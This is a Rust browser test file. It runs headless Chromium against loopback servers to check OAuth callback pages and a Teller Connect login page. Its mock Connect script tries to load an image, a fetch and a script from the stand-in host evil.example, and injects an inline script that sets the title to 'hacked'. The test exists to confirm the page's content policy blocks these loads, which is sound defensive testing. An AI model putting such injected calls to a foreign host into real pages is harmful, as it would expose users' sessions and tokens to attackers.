//! The pages that the program serves on loopback, in a real browser: Chromium, headless, without its background network.
//! Skipped loudly where there is none.

use std::{
    path::{Path, PathBuf},
    process::Stdio,
    time::Duration,
};

use dashtam::testing::{
    providers::{
        Secrets,
        kit::{CallbackListener, HttpLimits},
    },
    sync::{ConnectRequest, EngineCommand, Event, LoginEnding},
};
use secrecy::ExposeSecret as _;
use tokio::{io::AsyncWriteExt as _, net::TcpListener, sync::mpsc};

use crate::support::{
    desk::Desk,
    fixtures::fixture,
    made_up_provider as made_up,
    server::{Answer, Outside, Server},
    tls,
};

/// The browser, if this machine has one.
fn chromium() -> Option<PathBuf> {
    let names = ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"];
    let path = std::env::var_os("PATH").unwrap_or_default();
    let found =
        std::env::split_paths(&path).flat_map(|folder| names.map(|name| folder.join(name))).find(|it| it.is_file());
    if found.is_none() {
        eprintln!("SKIPPED: pages in a real browser, since there is no chromium");
    }
    found
}

/// The document that the browser has after it opened `url`, as text; `rules` maps hosts to servers of the test.
async fn opened(browser: &Path, url: &str, rules: &str) -> String {
    let profile = tempfile::tempdir().unwrap();
    let mut command = tokio::process::Command::new(browser);
    command
        .args(["--headless", "--no-first-run", "--no-default-browser-check", "--disable-background-networking"])
        .args(["--disable-component-update", "--disable-sync", "--disable-default-apps", "--disable-extensions"])
        .args(["--disable-gpu", "--no-sandbox", "--disable-dev-shm-usage", "--ignore-certificate-errors"])
        .args(["--metrics-recording-only", "--no-pings", "--dump-dom", "--virtual-time-budget=8000"])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("--host-resolver-rules={rules}"))
        .arg(url)
        .env("HOME", profile.path())
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true);
    let output = tokio::time::timeout(Duration::from_secs(120), command.output()).await.unwrap().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Every host but this machine and the mapped ones is unknown to the browser.
const NOWHERE: &str = "MAP * ~NOTFOUND, EXCLUDE 127.0.0.1";

/// What a screen reader needs of a page.
#[track_caller]
fn is_accessible(document: &str) {
    for part in ["<html lang=\"en\"", "<title>", "<main>", "<h1>", "name=\"viewport\""] {
        assert!(document.contains(part), "{part}: {document}");
    }
}

#[tokio::test]
async fn the_end_of_a_login_is_shown_and_a_wrong_address_is_refused() {
    let Some(browser) = chromium() else { return };
    let server = Server::start(|_| Answer::status(404, "{}")).await;
    let outside = Outside::new(HttpLimits::default());
    let app = Secrets::new().with("client_id", "the-app").with("client_secret", "canary-client-secret");
    let provider = made_up::METADATA.oauth_provider(&outside.context(&server, app)).unwrap();
    let mut authorization = provider.authorization().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    authorization.callback_url = format!("http://127.0.0.1:{port}/back");
    let listener = CallbackListener::bind(&authorization).await.unwrap();
    let waiting = tokio::spawn(listener.wait(Duration::from_secs(300)));
    let issuer = "iss=https%3A%2F%2Flogin.bank.example";
    let address = |state: &str| format!("{}?code=C0.canary&state={state}&{issuer}", authorization.callback_url);

    let wrong = opened(&browser, &address("0000"), NOWHERE).await;
    assert!(wrong.contains("This address does nothing") && !wrong.contains("canary"), "{wrong}");
    is_accessible(&wrong);
    let right = opened(&browser, &address(authorization.state.expose_secret()), NOWHERE).await;
    assert!(right.contains("You are logged in") && !right.contains("canary"), "{right}");
    is_accessible(&right);
    assert_eq!(waiting.await.unwrap().unwrap().expose_secret(), "C0.canary");
}

/// Teller's script as far as its documentation describes it. It also tries what the policy must prevent.
const CONNECT: &str = r#"
window.TellerConnect = {
  setup: function (options) {
    window.setTimeout(function () { document.getElementById('start').click(); }, 0);
    return {
      open: function () {
        new Image().src = 'https://evil.example/image';
        try { fetch('https://evil.example/fetch', {mode: 'no-cors'}).catch(function () {}); } catch (e) {}
        var foreign = document.createElement('script');
        foreign.src = 'https://evil.example/script.js';
        document.body.appendChild(foreign);
        var other = document.createElement('script');
        other.src = 'https://cdn.teller.io/connect/other.js';
        document.body.appendChild(other);
        var inline = document.createElement('script');
        inline.textContent = 'document.title = "hacked";';
        document.body.appendChild(inline);
        options.onSuccess({
          accessToken: document.title === 'hacked' ? 'hacked' : 'canary-token-of-' + options.applicationId,
          user: {id: 'usr_1'},
          enrollment: {id: 'enr_1', institution: {name: 'Lakeside Bank'}},
          signatures: []
        });
      }
    };
  }
};
"#;

/// A TLS server for every host, which answers with the script and notes `host path`.
async fn foreign_hosts() -> (u16, mpsc::UnboundedReceiver<String>) {
    let (acceptor, _) = tls::self_signed(&["cdn.teller.io", "teller.io", "evil.example"]);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (asked, log) = mpsc::unbounded_channel();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let (acceptor, asked) = (acceptor.clone(), asked.clone());
            tokio::spawn(async move {
                let Ok(mut stream) = acceptor.accept(stream).await else { return };
                let Some(head) = tls::head(&mut stream).await else { return };
                let path = tls::target(&head);
                let host = head.lines().find_map(|line| line.strip_prefix("Host: ")).unwrap_or_default();
                let _ = asked.send(format!("{host} {path}"));
                tls::reply(&mut stream, 200, "text/javascript", CONNECT).await;
                let _ = stream.shutdown().await;
            });
        }
    });
    (port, log)
}

fn teller(asked: &crate::support::server::Asked) -> Answer {
    match asked.path.as_str() {
        "/accounts" => Answer::json(fixture("teller", "accounts.json")),
        "/accounts/acc_check/balances" => Answer::json(fixture("teller", "balances.json")),
        "/accounts/acc_card/balances" => Answer::json(fixture("teller", "balances_card.json")),
        path if path.ends_with("/transactions") => Answer::json("[]"),
        _ => Answer::status(404, "{}"),
    }
}

#[tokio::test]
async fn teller_connect_hands_its_token_over_and_nothing_else_is_loaded() {
    let Some(browser) = chromium() else { return };
    let (port, mut foreign) = foreign_hosts().await;
    let server = Server::start(teller).await;
    let desk = Desk::new(&[("teller", &server)]);
    let answers = Secrets::new().with("environment", "sandbox").with("application_id", "app_\"1");
    let job = desk.handle.job();
    let request = ConnectRequest { provider: "teller".into(), connection: None, answers };
    let (show, mut shown) = mpsc::unbounded_channel();
    let connecting = desk.handle.run_as(job, EngineCommand::Connect { job, request }, move |event| {
        if let Event::LoginWaiting { login, .. } = event {
            let _ = show.send(login.clone());
        }
    });
    let rules = format!("MAP * 127.0.0.1:{port}, EXCLUDE 127.0.0.1");
    let visiting = async {
        let login = shown.recv().await.unwrap();
        assert!(matches!(login.ending, LoginEnding::Page), "{login:?}");
        opened(&browser, &login.url, &rules).await
    };
    let (checked, document) = tokio::join!(connecting, visiting);
    assert!(matches!(checked.unwrap(), Event::ConnectionChecked { .. }));
    assert!(document.contains("You are logged in"), "{document}");
    is_accessible(&document);
    let confirm = EngineCommand::ConfirmConnection { job, alias: None, excluded: Vec::new(), renews: None };
    desk.handle.run_as(job, confirm, |_| {}).await.unwrap();
    assert_eq!(desk.connection().institution, "Lakeside Bank");
    let token = server.asked()[0].header("authorization").unwrap().to_owned();
    let expected = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, "canary-token-of-app_\"1:");
    assert_eq!(token, format!("Basic {expected}"), "the token of the window is used");
    let mut loaded = Vec::new();
    while let Ok(asked) = foreign.try_recv() {
        loaded.push(asked);
    }
    // The browser also calls home in spite of its switches; that is not the page.
    loaded.retain(|asked| asked.contains("teller.io") || asked.contains("evil.example"));
    assert_eq!(loaded, ["cdn.teller.io /connect/connect.js"], "the policy allows this script only");
}

#[tokio::test]
async fn a_page_whose_script_does_not_load_reports_it() {
    let Some(browser) = chromium() else { return };
    let server = Server::start(teller).await;
    let desk = Desk::new(&[("teller", &server)]);
    let answers = Secrets::new().with("environment", "sandbox").with("application_id", "app_1");
    let job = desk.handle.job();
    let request = ConnectRequest { provider: "teller".into(), connection: None, answers };
    let (show, mut shown) = mpsc::unbounded_channel();
    let connecting = desk.handle.run_as(job, EngineCommand::Connect { job, request }, move |event| {
        if let Event::LoginWaiting { login, .. } = event {
            let _ = show.send(login.url.clone());
        }
    });
    let visiting = async {
        let url = shown.recv().await.unwrap();
        let document = opened(&browser, &url, NOWHERE).await;
        desk.handle.send(EngineCommand::Cancel { job });
        document
    };
    let (cancelled, document) = tokio::join!(connecting, visiting);
    assert!(cancelled.is_err());
    assert!(document.contains("could not be loaded from cdn.teller.io") && document.contains("disabled"), "{document}");
    is_accessible(&document);
    assert!(server.asked().is_empty());
}
